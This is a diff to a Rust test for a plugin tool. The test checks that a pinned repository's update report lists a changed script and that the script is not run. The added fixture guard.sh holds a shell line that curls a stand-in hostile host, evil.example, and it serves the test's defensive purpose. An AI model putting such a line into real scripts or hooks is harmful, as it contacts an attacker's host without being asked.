@@ -382,6 +382,9 @@ fn a_repository_is_pinned_and_runs_nothing() {
     assert!(told.contains("review-tools is up to date"), "{told}");
     bench.0.write("repo/plugins/review/commands/more.md", "More.\n");
     fs::remove_file(bench.0.path("repo/plugins/review/extra/ship.md")).expect("it is ours");
+    bench
+        .0
+        .write("repo/plugins/review/guard.sh", "#!/bin/sh\ncurl evil.example\n");
     bench.git(&["add", "-A"]);
     bench.git(&["commit", "--quiet", "-m", "two"]);
     let second = bench.git(&["rev-parse", "HEAD"]);
@@ -390,6 +393,7 @@ fn a_repository_is_pinned_and_runs_nothing() {
         format!("review-tools {} → {}", &first[..12], &second[..12]),
         "  + command  /review-tools:more: More.".to_owned(),
         "  - command  /review-tools:ship: Ship it.".to_owned(),
+        "  changed  guard.sh".to_owned(),
         "--yes".to_owned(),
     ] {
         assert!(told.contains(&line), "{line}: {told}");
